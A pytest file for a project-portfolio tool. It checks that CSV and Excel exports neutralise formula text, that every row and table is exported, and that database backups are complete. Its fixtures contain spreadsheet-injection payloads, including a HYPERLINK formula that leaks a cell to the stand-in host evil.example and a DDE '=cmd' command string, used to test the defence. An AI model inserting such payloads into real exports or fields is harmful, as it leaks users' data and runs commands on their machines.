"""Exports and backup: formulas never reach a spreadsheet live, the CSV has a
row per pilot, the workbook a sheet per table with every row, and a backup
is a complete database that carries on where the original stands."""

import csv
import subprocess
import sys
import time
from datetime import date, timedelta

import duckdb
import openpyxl
import pandas as pd
import pytest

from portfolio import db, demo, export, flags, store
from portfolio.models import InvalidInput
from tests.conftest import AS_OF

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def demo_db(fixed_demo_db):
    return fixed_demo_db


@pytest.fixture
def hostile(conn):
    """A portfolio whose text is built to be run as formulas by a
    spreadsheet: a pilot name, a business unit, an update summary, a
    privilege description, a tab- and a carriage-return-led value (as an
    imported file can bring), next to two ordinary pilots."""
    owner = demo.make_person(conn, name="Olga Owner")
    pid = demo.make_pilot(conn, name=HOSTILE_NAME, business_unit="+1", product_owner_id=owner)
    demo.make_update(conn, pid, AS_OF - timedelta(days=3), summary="-2", blockers="@SUM(A1)")
    # What an import could carry in, past the form's whitespace trimming.
    conn.execute("UPDATE pilot SET problem = ? WHERE id = ?", ["\t=cmd|' /C calc'!A0", pid])
    conn.execute("UPDATE person SET name = ? WHERE id = ?", ["\r=1+1", owner])
    conn.execute(
        "INSERT INTO privilege (pilot_id, kind, description) VALUES (?, 'data_access', '@SUM(1+1)*cmd')", [pid])
    others = [demo.make_pilot(conn, name=f"Ordinary {i}") for i in range(2)]
    return pid, others


# --- neutralise: the one place ------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", HOSTILE_NAME])
def test_neutralise_prefixes_formula_text(text):
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", "a=b", " =not at the start", 5, -2, 1.5, date(2026, 3, 2), None])
def test_neutralise_leaves_everything_else(value):
    assert export.neutralise(value) == value


def test_safe_frame_touches_text_only():
    frame = pd.DataFrame({"name": ["=x", "ok", None], "n": [-1, 2, 3], "when": pd.to_datetime(["2026-01-01"] * 3)})
    safe = export.safe_frame(frame)
    assert safe["name"].tolist()[:2] == ["'=x", "ok"] and pd.isna(safe["name"].iloc[2])
    assert safe["n"].tolist() == [-1, 2, 3] and pd.api.types.is_integer_dtype(safe["n"])
    assert pd.api.types.is_datetime64_any_dtype(safe["when"])
    assert frame["name"].iloc[0] == "=x"  # the caller's frame is not changed


# --- CSV ------------------------------------------------------------------------


def test_csv_neutralises_every_hostile_cell(conn, settings, hostile, tmp_path):
    pid, _ = hostile
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    row = rows[pid]
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["business_unit"] == "'+1"
    assert row["problem"] == "'\t=cmd|' /C calc'!A0"
    assert row["product_owner"] == "'\r=1+1"
    for r in rows.values():
        for value in r.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_csv_has_one_row_per_pilot_with_owners_clock_and_flags(conn, settings, hostile, tmp_path):
    pid, others = hostile
    gone = demo.make_person(conn, name="Gone Owner", email="gone@example.com")
    left = demo.make_pilot(conn, name="Owner left", product_owner_id=gone)
    store.set_person_active(conn, gone, False)
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    ids = [int(r["id"]) for r in rows]
    assert sorted(ids) == sorted([pid, *others, left]) and len(ids) == len(set(ids))
    by_id = {int(r["id"]): r for r in rows}
    r = by_id[left]
    assert r["product_owner"] == "Gone Owner (inactive)" and r["product_owner_email"] == "gone@example.com"
    assert r["technical_lead_email"].endswith("@example.com") and "external_id" in r
    # make_pilot starts the clock 30 days before AS_OF: day 31, 60 days left.
    assert (r["day"], r["days_left"], r["stage"]) == ("31", "60", "pilot")
    assert "OWNERLESS" in r["flags"] and "product owner Gone Owner is inactive" in r["reasons"]
    assert by_id[others[0]]["flags"] == by_id[others[0]]["flags"].strip()


def test_pilots_with_flags_joins_every_flag(demo_db, settings):
    with db.session(demo_db) as conn:
        frame = export.pilots_with_flags(conn, AS_OF, settings)
        all_flags = flags.portfolio_flags(conn, AS_OF, settings)
        n = conn.execute("SELECT count(*) FROM pilot").fetchone()[0]
    assert len(frame) == n == frame["id"].nunique()
    for pilot_id, group in all_flags.groupby("pilot_id"):
        row = frame[frame["id"] == pilot_id].iloc[0]
        assert set(row["flags"].split(", ")) == set(group["code"])
        assert all(reason in row["reasons"] for reason in group["reason"])
    unflagged = frame[~frame["id"].isin(all_flags["pilot_id"])]
    assert (unflagged["flags"] == "").all()


# --- the workbook -----------------------------------------------------------------


def _cells(ws):
    for row in ws.iter_rows():
        yield from row


def test_xlsx_neutralises_every_sheet_and_holds_no_formula(conn, settings, hostile, tmp_path):
    pid, _ = hostile
    out = export.export_xlsx(conn, AS_OF, settings, tmp_path / "portfolio.xlsx")
    wb = openpyxl.load_workbook(out)

    def column(sheet, name):
        ws = wb[sheet]
        header = [c.value for c in ws[1]]
        return [row[header.index(name)] for row in ws.iter_rows(min_row=2, values_only=True)]

    assert "'" + HOSTILE_NAME in column("Pilots", "name")
    assert "'+1" in column("Pilots", "business_unit")
    assert "'\t=cmd|' /C calc'!A0" in column("Pilots", "problem")
    assert "'-2" in column("Weekly updates", "summary")
    assert "'@SUM(A1)" in column("Weekly updates", "blockers")
    assert "'@SUM(1+1)*cmd" in column("Privileges", "description")
    # XML turns a stored carriage return into a newline when read back; the
    # cell still starts with the apostrophe, which is what keeps it inert.
    assert {"'\r=1+1", "'\n=1+1"} & set(column("People", "name"))
    assert "'" + HOSTILE_NAME in column("Flags", "pilot")
    assert "'" + HOSTILE_NAME in column("Weekly updates", "pilot")
    for ws in wb:
        for cell in _cells(ws):
            assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate, cell.value)


def test_workbook_has_a_sheet_per_table_with_every_row(demo_db, settings, tmp_path):
    out = tmp_path / "portfolio.xlsx"
    with db.session(demo_db) as conn:
        export.export_xlsx(conn, AS_OF, settings, out)
        counts = {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0]
                  for (t,) in conn.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        n_flags = len(flags.portfolio_flags(conn, AS_OF, settings))
    wb = openpyxl.load_workbook(out, read_only=True)
    names = wb.sheetnames
    expected = ["Pilots", "People", "Weekly updates", "Criteria", "Decisions", "Privileges", "KPIs",
                "KPI readings", "Readiness"]
    assert names[: len(expected)] == expected and names[-1] == "Flags"
    # The rest of the schema has its sheets too; the bookkeeping does not.
    assert {"Stage events", "Criteria changes", "Bridge checks", "Readiness items"} <= set(names)
    assert not {"Schema migrations", "Digest runs", "Digest flags"} & set(names)
    rows = {ws.title: ws.max_row - 1 for ws in wb}
    for table, title in export.SHEET_TITLES.items():
        assert rows[title] == counts[table], title
    assert rows["Stage events"] == counts["stage_event"] and rows["Flags"] == n_flags > 0
    people = [c.value for c in next(wb["People"].iter_rows(max_row=1))]
    assert "email" in people and "email_key" not in people


def test_workbook_dates_are_dates(demo_db, settings, tmp_path):
    out = tmp_path / "portfolio.xlsx"
    with db.session(demo_db) as conn:
        export.export_xlsx(conn, AS_OF, settings, out)
    ws = openpyxl.load_workbook(out)["Decisions"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("decided_on") + 1)
    assert cell.is_date and cell.number_format == "YYYY-MM-DD"


def test_export_refuses_a_missing_folder_and_leaves_no_partial_file(conn, settings, tmp_path):
    with pytest.raises(InvalidInput, match="does not exist"):
        export.export_csv(conn, AS_OF, settings, tmp_path / "nowhere" / "p.csv")
    export.export_xlsx(conn, AS_OF, settings, tmp_path / "p.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# --- backup -------------------------------------------------------------------------


def _table_rows(path) -> dict[str, list]:
    conn = duckdb.connect(str(path), read_only=True)
    try:
        tables = [t for (t,) in conn.execute("SELECT table_name FROM duckdb_tables() ORDER BY 1").fetchall()]
        return {t: conn.execute(f'SELECT * FROM "{t}" ORDER BY ALL').fetchall() for t in tables}
    finally:
        conn.close()


def test_backup_is_complete_and_carries_on(demo_db, tmp_path):
    copy = export.backup(demo_db, tmp_path / "copy.duckdb")
    original = _table_rows(demo_db)
    assert _table_rows(copy) == original
    assert "schema_migration" in original and original["pilot"]
    with db.session(copy) as conn:
        # Sequences continue where the original stands: a new pilot, person
        # and update get fresh ids, not ones already taken.
        top = conn.execute("SELECT max(id) FROM pilot").fetchone()[0]
        pid = demo.make_pilot(conn, name="After the backup")
        assert pid == top + 1
        assert demo.make_update(conn, pid, AS_OF) > max(r[0] for r in original["weekly_update"])
        # Constraints and unique indexes came along.
        email = conn.execute("SELECT email FROM person LIMIT 1").fetchone()[0]
        with pytest.raises(duckdb.ConstraintException):
            conn.execute("INSERT INTO person (name, email, email_key, role) VALUES ('Dup', ?, lower(?), 'viewer')",
                         [email, email])
        indexes = {r[0] for r in conn.execute("SELECT index_name FROM duckdb_indexes()").fetchall()}
        assert {"pilot_external_id", "weekly_update_pilot", "decision_pilot"} <= indexes
    # The original is untouched by what happened in the copy.
    assert _table_rows(demo_db) == original


def test_backup_never_overwrites(demo_db, tmp_path):
    target = tmp_path / "copy.duckdb"
    target.write_bytes(b"precious")
    with pytest.raises(InvalidInput, match="already exists"):
        export.backup(demo_db, target)
    assert target.read_bytes() == b"precious"
    with pytest.raises(InvalidInput, match="different file"):
        export.backup(demo_db, demo_db)
    with pytest.raises(InvalidInput, match="does not exist"):
        export.backup(tmp_path / "missing.duckdb", tmp_path / "other.duckdb")


def test_backup_waits_for_another_program_to_release_the_file(demo_db, tmp_path):
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import duckdb, sys, time\n"
         f"c = duckdb.connect({str(demo_db)!r})\n"
         "print('holding', flush=True)\n"
         "time.sleep(1.0)\n"
         "c.close()\n"],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "holding"
        started = time.monotonic()
        copy = export.backup(demo_db, tmp_path / "copy.duckdb")
        assert time.monotonic() - started > 0.3  # it waited for the release
    finally:
        holder.wait(timeout=30)
    assert _table_rows(copy)["pilot"] == _table_rows(demo_db)["pilot"]
